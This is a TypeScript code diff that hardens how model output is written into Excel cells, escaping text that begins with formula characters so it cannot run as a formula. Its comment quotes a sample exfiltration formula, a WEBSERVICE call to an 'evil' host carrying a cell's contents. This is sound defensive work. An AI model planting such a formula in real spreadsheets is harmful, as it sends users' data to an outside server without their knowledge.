@@ -33,12 +33,23 @@ export function parseCellWrite(output: unknown, text: string): CellWrite {
   const target = typeof record.target === "string" ? record.target : undefined;
   if (typeof record.formula === "string") return { kind: "formula", formula: normaliseFormula(record.formula), target };
   const table = Array.isArray(output) ? output : (record.values ?? record.table ?? record.rows);
-  if (Array.isArray(table) && table.every((row) => Array.isArray(row))) return { kind: "values", values: rectangular(table as unknown[][]), target };
+  if (Array.isArray(table) && table.every((row) => Array.isArray(row))) {
+    return { kind: "values", values: rectangular(table as unknown[][]).map((row) => row.map(asLiteral)), target };
+  }
   const answer = (typeof output === "string" ? output : text).trim();
   const fenced = /^```[a-z]*\s*\n?([\s\S]*?)\n?```$/i.exec(answer);
   const bare = fenced ? fenced[1].trim() : answer;
   if (bare.startsWith("=") && !bare.includes("\n")) return { kind: "formula", formula: bare };
-  return { kind: "values", values: [[answer]] };
+  return { kind: "values", values: [[asLiteral(answer)]] };
+}
+
+const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?%?$/i;
+
+/** A cell value as Excel should store it: Range.values runs text starting with =, + or - (and @) as a formula, so
+ * such text from a model (`=WEBSERVICE("https://evil/?"&A1)`, or just a "- bullet") gets Excel's text prefix `'`. */
+export function asLiteral(value: unknown): unknown {
+  if (typeof value !== "string" || !/^[=+\-@]/.test(value) || NUMBER.test(value)) return value;
+  return `'${value}`;
 }
 
 function normaliseFormula(formula: string): string {
